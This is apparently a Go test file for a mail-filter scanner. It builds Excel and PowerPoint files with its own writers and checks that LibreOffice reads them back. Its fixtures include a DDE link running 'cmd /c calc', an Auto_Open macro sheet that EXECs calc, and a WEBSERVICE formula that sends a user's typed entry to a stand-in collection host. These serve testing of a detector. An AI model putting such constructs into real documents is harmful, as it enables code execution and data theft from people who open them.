package formats

import (
	"strings"
	"testing"

	"github.com/kensa-milter/kensa/internal/soffice"
)

// The Office writers checked against LibreOffice, an independent reader:
// what our BIFF8, BIFF12 and PowerPoint writers put in a file is what
// LibreOffice reads from it (formulas, their values, DDE links, built-in
// names, a presentation's slide), so Kensa's readers are tested on the
// layout Office-family software reads and writes, not on ours alone.

func TestLibreOfficeReadsOurWorkbooks(t *testing.T) {
	xls := XLS(XLSWorkbook{
		Sheets: []XLSSheet{{Name: "Sheet1", Formulas: []XLSFormula{
			{Rgce: Cat(PtgInt(1), PtgInt(2), PtgFuncVar(2, FtabSum, false))},
			{Row: 1, Rgce: PtgNameX(2, 1)},
			{Col: 2, Down: 3, Rgce: Cat(PtgRefN(0, -2), PtgInt(10), PtgMul)}}}, // a shared formula: C1:C3 =A1*10...
			{Name: "Macro1", Macro: true, State: 1, Formulas: []XLSFormula{{Rgce: Cat(PtgStr("calc"), PtgFuncVar(1, FtabExec, false))}}}},
		Names: []XLSName{{Builtin: 1, Rgce: PtgRef3d(1, 0, 0)}},
		DDE:   [][2]string{{"cmd", "/c calc"}}})
	xlsb := XLSB(XLSWorkbook{
		Sheets: []XLSSheet{{Name: "Data", Formulas: []XLSFormula{
			{Rgce: Cat(PtgInt(1), PtgInt(2), PtgFuncVar(2, FtabSum, false))},
			{Row: 1, Rgce: Cat(Ptg12Str("ab"), Ptg12Str("cd"), PtgConcat)},
			{Row: 2, Rgce: Cat(Ptg12Ref(0, 0), PtgInt(10), PtgMul)},
			{Row: 3, Rgce: Ptg12NameX(2, 1)}}},
			{Name: "Macro1", Macro: true, State: 1, Formulas: []XLSFormula{{Rgce: Cat(Ptg12Str("calc"), PtgFuncVar(1, FtabExec, false))}}}},
		Names: []XLSName{{Builtin: 1, Rgce: Ptg12Ref3d(0, 0, 0)}},
		DDE:   [][2]string{{"cmd", "/c calc"}}})
	// A web call whose address another cell builds from the reader's entry,
	// and string cells: shared (BrtCellIsst) and inline (BrtCellSt).
	web := XLSB(XLSWorkbook{
		Sheets: []XLSSheet{{Name: "Form", Formulas: []XLSFormula{
			{Rgce: Cat(PtgName(1), Ptg12Ref(2, 0), PtgFuncVar(2, 0xFF, false))},
			{Row: 2, Rgce: Cat(Ptg12Str("https://collect.example.net/c?u="), Ptg12Ref(0, 1), PtgConcat)}},
			Cells: []XLSCell{{Row: 0, Col: 2, Text: "Your name"}, {Row: 3, Col: 3, Text: "Inline"}}}},
		Names:   []XLSName{{Name: "_xlfn.WEBSERVICE", Future: true}},
		Strings: []string{"Your name"}})
	out, err := soffice.ConvertFiles(t.TempDir(), "fods", map[string][]byte{"book.xls": xls, "book12.xlsb": xlsb, "web12.xlsb": web})
	if err != nil {
		t.Fatal(err)
	}
	for name, wants := range map[string][]string{
		"book.xls": {`<table:table table:name="Sheet1"`, `<table:table table:name="Macro1"`, `table:formula="of:=SUM(1;2)"`, `office:value="3"`,
			`table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)"`,
			`table:name="Excel_BuiltIn_Auto_Open" table:base-cell-address="$Sheet1.$A$1" table:cell-range-address="$Macro1.A1"`,
			`table:formula="of:=[.A1]*10"`, `table:formula="of:=[.A2]*10"`, `table:formula="of:=[.A3]*10"`, `office:value="30"`},
		"book12.xlsb": {`<table:table table:name="Data"`, `<table:table table:name="Macro1"`, `table:formula="of:=SUM(1;2)"`, `office:value="3"`,
			`office:string-value="abcd"`, `table:formula="of:=[.A1]*10"`, `office:value="30"`, `table:name="_xlnm.Auto_Open"`,
			`table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)"`},
		"web12.xlsb": {`table:formula="of:=COM.MICROSOFT.WEBSERVICE([.A3])"`, `table:formula="of:=&quot;https://collect.example.net/c?u=&quot;&amp;[.B1]"`,
			`office:string-value="https://collect.example.net/c?u="`, `<text:p>Your name</text:p>`, `<text:p>Inline</text:p>`},
	} {
		got := string(out[name])
		for _, w := range wants {
			if !strings.Contains(got, w) {
				t.Errorf("%s lacks %s", name, w)
			}
		}
	}
}

func TestLibreOfficeOpensOurPresentations(t *testing.T) {
	vba := VBAProject(VBAModule{Name: "Module1", Source: "Attribute VB_Name = \"Module1\"\r\nSub Hello()\r\nEnd Sub\r\n"})
	files := map[string][]byte{
		"plain.ppt": PPT(nil),
		"macro.ppt": PPT(vba, CFB([]CFBEntry{{Name: "Contents", Parent: -1, Data: []byte("object")}})),
		"gaps.ppt":  PPTWith(PPTOptions{VBA: vba, Gap: 37}),
	}
	out, err := soffice.ConvertFiles(t.TempDir(), "fodp", files)
	if err != nil {
		t.Fatal(err)
	}
	for name, got := range out {
		if n := strings.Count(string(got), "<draw:page "); n != 1 {
			t.Errorf("%s: LibreOffice shows %d slides, want 1", name, n)
		}
	}
}
